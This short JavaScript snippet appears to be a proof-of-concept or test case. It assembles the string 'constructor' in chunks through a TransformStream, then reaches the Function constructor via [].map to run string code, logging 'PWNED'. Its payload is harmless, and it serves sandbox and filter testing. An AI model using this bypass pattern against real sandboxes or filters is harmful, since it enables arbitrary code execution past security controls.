// A name in pieces through streams and callbacks, read of what the runtime has made.
let name = "";
const t = new TransformStream({ transform(c, ctl) { name += c; }, flush() { console.log("PWNED", [].map[name]("return 7")()); } });
const w = t.writable.getWriter();
t.readable.getReader().read();
w.write("con"); w.write("struc"); w.write("tor"); w.close();
